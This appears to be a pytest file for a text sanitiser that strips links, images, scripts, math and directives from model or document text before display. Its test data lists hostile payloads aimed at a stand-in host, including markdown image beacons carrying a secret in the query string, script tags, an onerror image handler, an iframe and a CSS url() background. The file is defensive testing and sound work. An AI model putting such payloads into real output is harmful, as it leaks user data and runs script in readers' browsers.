"""What a model or a document says may be formatted, but it never loads, links or restyles anything."""

import re

import pytest

from pages.parts import safe_text

LINKING = re.compile(r"\]\(|\]:|\]\[|!\[")
AUTOLINK = re.compile(r"(?i)https?://|\bwww\.|<[a-z/!?]|[^\s]@[a-z]|&[#\w]+;")
MATH = re.compile(r"\$(?!\ufeff)\S")
DIRECTIVE = re.compile(r":[a-z+_0-9][\w+-]*[\[:]|:material/")

HOSTILE = {
    "image": "![logo](https://evil.test/x.png?q=secret)",
    "image by reference": "![logo][x]\n\n[x]: https://evil.test/x.png",
    "short reference": "![x]\n\n[x]:https://evil.test/x.png",
    "image inside a link": "[![a](https://evil.test/a.png)](https://evil.test)",
    "image in a code span that is not one": "`` ` ![x](https://evil.test/y.png)",
    "image in an open fence": "~~~\n![x](https://evil.test/y.png)",
    "image in a list": "- item\n    ![x](https://evil.test/y.png)",
    "image in a table": "| a |\n|---|\n| ![x](https://evil.test/y.png) |",
    "link": "[click me](https://evil.test)",
    "link on two lines": "[click\nme](https://evil.test)",
    "bare links": "see https://evil.test and www.evil.test or me@evil.test",
    "bare links, escaped": r"https\://evil.test www\.evil.test me\@evil.test",
    "bare links, as entities": "https&#58;//evil.test www&period;evil.test me&commat;evil.test",
    "link in brackets": "<https://evil.test> <me@evil.test>",
    "footnote": "text[^1]\n\n[^1]: https://evil.test",
    "script": "<script>alert(1)</script>",
    "math": "$x^2$ and $$y$$ and\n$$\nz\n$$",
    "html image": '<img src="https://evil.test/x.png" onerror="alert(1)">',
    "half a tag": "<iframe src=https://evil.test",
    "colour with a picture": ':color[x]{background="url(https://evil.test/x.png)"}',
    "icon": ":material/delete: and :red[alarm] and :tada: and :streamlit:",
    "block directive": ":::warning\nx\n:::",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("clean", [safe_text.markdown, safe_text.plain], ids=["markdown", "plain"])
def test_nothing_in_the_text_links_or_acts(clean, text):
    shown = re.sub(r"\\[\[\]!&]", "", clean(text))
    shown = re.sub(r"\\(.)", r"\1", shown)
    assert not LINKING.search(shown)
    assert not AUTOLINK.search(shown)
    assert not DIRECTIVE.search(shown)
    assert not MATH.search(re.sub(r"\\.", "", clean(text)))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_only_invisible_characters_are_added_to_plain_prose(text):
    shown = safe_text.markdown(text).replace(safe_text.JOINER, "")
    assert shown == text


@pytest.mark.parametrize(
    "fence",
    [
        "```mermaid",
        "~~~mermaid",
        "``` Mermaid {x}",
        "```merm&#97;id",
        "> ```mermaid",
        "1. ~~~~ mermaid",
        "```\\mermaid",
    ],
)
def test_a_drawing_is_shown_as_code(fence):
    shown = safe_text.markdown(f"{fence}\ngraph TD\n```")
    assert re.search(r"(`|~)$", shown.split("\n")[0])


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("**bold** and *slanted*", "**bold** and *slanted*"),
        ("- one\n- two", "- one\n- two"),
        ("| a | b |\n|:--|--:|\n| 1 | 2 |", "| a | b |\n|:--|--:|\n| 1 | 2 |"),
        ("```python\n# note\nx = 1\n```", "```python\n# note\nx = 1\n```"),
        ("```a b``` inline", "```a b``` inline"),
        ("costs $5 to $10", "costs $\ufeff5 to $\ufeff10"),
        ("**Note:** text", "**Note:** text"),
        ("# Big **news** #\ntext", "**Big news**\ntext"),
        ("Title\n=====\ntext", "Title\ntext"),
        ("para\n\n---\n\npara", "para\n\n---\n\npara"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("safe\u202egnp.exe\x00", "safegnp.exe"),
        ("as said [1], [2].", "as said [1], [2]."),
    ],
)
def test_formatting_is_kept_and_headings_do_not_outgrow_the_page(text, shown):
    assert safe_text.markdown(text) == shown


@pytest.mark.parametrize(
    "text", ["# a\n- b", "1. x", "1) x", "a_b_c *d* `e` ~f~ | g", "$x$ &lt; ^y^", "> q", "+ p"]
)
def test_plain_text_is_shown_letter_by_letter(text):
    shown = safe_text.plain(text)
    bare = re.sub(r"\\(.)", r"\1", shown).replace(safe_text.JOINER, "")
    assert bare == " ".join(text.split())
    assert not re.search(r"(?<!\\)[*_`#~|$&]", shown)


def test_shortening_cuts_at_a_word_and_says_so():
    assert safe_text.shorten("The quick brown fox", 13) == "The quick…"
    assert safe_text.shorten("short", 13) == "short"
    assert len(safe_text.shorten("x" * 90, 20)) == 20


def test_a_long_hostile_text_is_cleaned_in_linear_time():
    parts = ("#", "x\n", "![", "](", "`", "~", " \t", "\\", "$", "> ", "1.")
    assert safe_text.markdown("# " + "".join(part * 20_000 for part in parts))
